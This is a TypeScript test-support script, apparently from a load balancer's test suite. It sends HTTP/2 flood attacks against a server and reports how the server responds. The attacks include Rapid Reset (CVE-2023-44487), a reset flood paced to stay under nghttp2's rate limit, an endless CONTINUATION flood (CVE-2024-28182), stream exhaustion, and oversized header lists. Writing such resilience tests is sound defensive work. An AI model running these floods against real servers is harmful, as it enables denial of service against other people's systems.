import { FLAG, FRAME, field, frame, rawSession, requestBlock } from './h2-raw.js';

// A flooding HTTP/2 client as its own process (so its own work does not count in the
// balancer's event-loop lag): `tsx test/support/h2-flood-main.ts URL HOST KIND COUNT`.
// Prints one JSON line: what it sent and how the server answered.

const [url = '', host = '', kind = '', countArg = '1000'] = process.argv.slice(2);
const count = Number(countArg);

async function main(): Promise<void> {
  const s = await rawSession(url, host);
  const started = Date.now();
  let sent = 0;
  const flush = (frames: Buffer[]): Promise<void> => new Promise((resolve) => {
    if (s.closed) return resolve();
    if (s.write(Buffer.concat(frames))) return resolve();
    s.socket.once('drain', resolve);
    s.socket.once('close', resolve);
  });
  if (kind === 'rapid-reset') {
    // HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487).
    for (let batch = 0; sent < count && !s.closed; batch++) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100 && sent < count; i++, sent++) {
        const id = 1 + 2 * sent;
        frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestBlock(host, `/echo?n=${sent}`)));
        frames.push(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
      }
      await flush(frames);
    }
  } else if (kind === 'slow-reset') {
    // Paced below nghttp2's own reset rate limit, each reset a moment after its request (so the
    // request has started): one every 25 ms.
    for (; sent < count && !s.closed; sent++) {
      const id = 1 + 2 * sent;
      await flush([frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, requestBlock(host, `/slow?n=${sent}`))]);
      await new Promise((r) => setTimeout(r, 5));
      await flush([frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8]))]);
      await new Promise((r) => setTimeout(r, 20));
    }
  } else if (kind === 'continuation') {
    // One HEADERS without END_HEADERS, then CONTINUATION frames that never end (CVE-2024-28182).
    await flush([frame(FRAME.HEADERS, FLAG.END_STREAM, 1, requestBlock(host, '/page'))]);
    const block = field('x-flood', 'a'.repeat(1000));
    while (sent < count && !s.closed) {
      const frames: Buffer[] = [];
      for (let i = 0; i < 100 && sent < count; i++, sent++) frames.push(frame(FRAME.CONTINUATION, 0, 1, block));
      await flush(frames);
    }
  } else if (kind === 'streams') {
    // Streams opened and left open (no END_STREAM), past the advertised limit.
    const frames: Buffer[] = [];
    for (; sent < count; sent++) frames.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, 1 + 2 * sent, requestBlock(host, '/echo', [['content-type', 'text/plain']])));
    await flush(frames);
  } else if (kind === 'header-list') {
    // One request whose header list is far past 16 KB, in HEADERS + CONTINUATION.
    const fields = Array.from({ length: 40 }, (_, i) => field(`x-big-${i}`, 'b'.repeat(1000)));
    const block = Buffer.concat([requestBlock(host, '/page'), ...fields]);
    const parts: Buffer[] = [];
    for (let at = 0; at < block.length; at += 8000) parts.push(block.subarray(at, at + 8000));
    await flush(parts.map((p, i) => frame(i === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (i === parts.length - 1 ? FLAG.END_HEADERS : 0) | (i === 0 ? FLAG.END_STREAM : 0), 1, p)));
    sent = 1;
  }
  const closed = await s.closedWithin(Number(process.env.FLOOD_WAIT_MS ?? 5_000));
  process.stdout.write(`${JSON.stringify({ kind, sent, closed, goaway: s.goaway, resets: Object.fromEntries(s.resets), responses: s.responses, statuses: s.statuses, ms: Date.now() - started })}\n`);
  s.socket.destroy();
}

main().catch((err: unknown) => {
  process.stdout.write(`${JSON.stringify({ kind, error: (err as Error).message })}\n`);
});
